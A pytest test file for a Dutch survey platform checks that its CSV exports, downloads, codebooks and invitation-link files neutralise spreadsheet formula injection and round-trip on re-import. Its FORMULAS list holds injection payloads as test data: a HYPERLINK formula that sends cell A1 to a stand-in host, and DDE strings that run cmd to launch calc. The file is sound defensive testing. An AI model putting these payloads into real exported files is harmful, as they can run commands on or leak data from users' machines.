"""No CSV the platform writes carries a live spreadsheet formula; numbers stay numbers; the files the platform
reads back (wide answers, codebook) round-trip exactly."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest

from survey_app.coding.codebook import CodeEntry, build_codebook
from survey_app.coding.codebook_csv import dump_csv, load_csv
from survey_app.coding.outputs import write_crosstab_csv, write_tables_csv
from survey_app.csv_safety import neutralise, restore
from survey_app.exports.frame import anonymous_frame
from survey_app.exports.writers import write_csv, write_dictionary_csv
from survey_app.extensions import db
from survey_app.instrument_registry import wave_instruments
from survey_app.models import Response
from survey_app.services.answer_store import bump_answers_revision
from survey_app.services.invitations import write_links_csv
from tests.console.conftest import TEAM_A, csrf_for, login_as

FORMULAS = ['=HYPERLINK("http://voorbeeld.nl/?x="&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=al met apostrof"]
LIVE = re.compile(r"[=+\-@\t\r]")


def cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))


def assert_no_live_formula(rows: list[list[str]], numeric: set[str] = frozenset()) -> None:
    """No cell starts with a formula character, except numbers (which a spreadsheet reads as numbers)."""
    for row in rows:
        for cell in row:
            if cell in numeric or re.fullmatch(r"-?\d+(\.\d+)?", cell):
                continue
            assert not LIVE.match(cell), cell


@pytest.mark.parametrize("text", FORMULAS + ["gewoon", "", "'", "''=x", "a=b", "1-2"])
def test_neutralise_then_restore_gives_the_original(text):
    written = neutralise(text)
    assert not LIVE.match(written)
    assert restore(written) == text


@pytest.mark.parametrize("number", [-1, -1.5, 0, 3])
def test_numbers_are_not_touched(number):
    assert neutralise(number) == number


def _add_response(wave, team_slug: str, answers: dict[str, str]) -> None:
    participation = next(p for p in wave.teams if p.team.slug == team_slug)
    db.session.add(Response(wave_id=wave.id, team_id=participation.team_id, answers=dict(answers)))
    bump_answers_revision(wave.id)
    db.session.commit()


def test_wave_csv_export_neutralises_open_answers_and_reimports_them(world, runner, tmp_path):
    for first, second in zip(FORMULAS[::2], FORMULAS[1::2] + ["-"], strict=True):
        _add_response(world.wave, TEAM_A, {"open_nodig_competenties": first, "open_nodig_team": second,
                                           "sw_hulp_vragen": "4"})
    path = tmp_path / "antwoorden.csv"
    result = runner.invoke(args=["export", "2017", "--format", "csv", "--out", str(path)])
    assert result.exit_code == 0, result.output
    rows = cells(path.read_text(encoding="utf-8-sig"))
    assert_no_live_formula(rows)
    column = rows[0].index("open_nodig_competenties")
    assert "'" + FORMULAS[0] in [row[column] for row in rows]
    result = runner.invoke(args=["responses", "import", "2016", str(path)])
    assert result.exit_code == 0, result.output
    original = anonymous_frame(world.wave, wave_instruments(world.wave))
    again = anonymous_frame(world.closed, wave_instruments(world.closed))
    for column in ("open_nodig_competenties", "open_nodig_team"):  # the importer strips spaces, as a page does
        assert sorted(again[column].dropna()) == sorted(v.strip() for v in original[column].dropna())
    assert set(FORMULAS[::2]) - {"\t=1+1"} <= set(again["open_nodig_competenties"].dropna())


def test_wave_csv_keeps_negative_numbers_as_numbers(tmp_path):
    frame = pd.DataFrame({"gemeente": ["zwolle"], "team": ["-team"], "getal": [-1.0], "breuk": [-2.5],
                          "tekst": ["-1"]})
    path = tmp_path / "export.csv"
    write_csv(frame, path)
    assert cells(path.read_text(encoding="utf-8-sig")) == [
        ["gemeente", "team", "getal", "breuk", "tekst"], ["zwolle", "'-team", "-1", "-2.5", "'-1"]]


def test_console_csv_download_is_neutralised(client, world):
    _add_response(world.wave, TEAM_A, {"open_nodig_competenties": FORMULAS[0]})
    login_as(client, world.researcher)
    page = client.get("/console/golven/2017")
    response = client.post("/console/golven/2017/export", data={"csrf_token": csrf_for(page), "fmt": "csv"})
    assert response.status_code == 200
    rows = cells(response.get_data(as_text=True), delimiter=";")  # the Dutch Excel dialect of a download
    assert_no_live_formula(rows)
    assert "'" + FORMULAS[0] in [cell for row in rows for cell in row]


def test_dictionary_csv_has_no_live_formula(world, tmp_path):
    path = tmp_path / "woordenboek.csv"
    write_dictionary_csv(wave_instruments(world.wave), path)
    assert_no_live_formula(cells(path.read_text(encoding="utf-8-sig")))


def test_invitation_links_csv(tmp_path):
    path = tmp_path / "links.csv"
    write_links_csv(path, SimpleNamespace(name="=1+1"), "team", ["abc"], "http://localhost")
    assert cells(path.read_text()) == [["wave", "team", "link"], ["'=1+1", "team", "http://localhost/s/abc"]]


def test_console_invitation_download_is_neutralised(client, world):
    login_as(client, world.researcher)
    page = client.get("/console/golven/2017")
    response = client.post(f"/console/golven/2017/teams/{TEAM_A}/uitnodigingen",
                           data={"csrf_token": csrf_for(page), "count": "2"})
    rows = cells(response.get_data(as_text=True), delimiter=";")
    assert rows[0] == ["golf", "team", "link"] and len(rows) == 3
    assert_no_live_formula(rows)


@dataclass
class _Table:
    title: str
    rows: list[list[object]]

    def to_rows(self) -> list[list[object]]:
        return self.rows


def test_coding_export_and_crosstab_csv(tmp_path):
    table = _Table("=Titel", [["Code", "Aantal"], ["-code", -1], ["@mention", 3]])
    buffer = io.StringIO()
    write_tables_csv([table], buffer)
    assert cells(buffer.getvalue()) == [["'=Titel"], ["Code", "Aantal"], ["'-code", "-1"], ["'@mention", "3"], []]
    path = tmp_path / "kruistabel.csv"
    write_crosstab_csv(table, path)
    assert cells(path.read_text(encoding="utf-8-sig"))[1:] == [["'-code", "-1"], ["'@mention", "3"]]


def test_codebook_csv_is_neutralised_and_round_trips():
    codebook = build_codebook([
        CodeEntry("uitkomst", "r1", description="=SOM(A1:A9)"),
        CodeEntry("uitkomst/-minder", "r2", description="+plus", examples=("-eerste", "@tweede")),
    ], "codeboek.yaml")
    text = dump_csv(codebook)
    assert_no_live_formula(cells(text))
    assert load_csv(text).codes == codebook.codes


def test_every_csv_writer_goes_through_csv_safety():
    """A new writer that bypasses the helper would bring formulas back; only csv_safety may call csv's writers."""
    root = Path(__file__).resolve().parents[2] / "survey_app"
    direct = re.compile(r"csv\.(writer|DictWriter)\(|to_csv\(")
    offenders = [str(path.relative_to(root)) for path in root.rglob("*.py")
                 if path.name != "csv_safety.py" and direct.search(path.read_text())]
    assert offenders == []
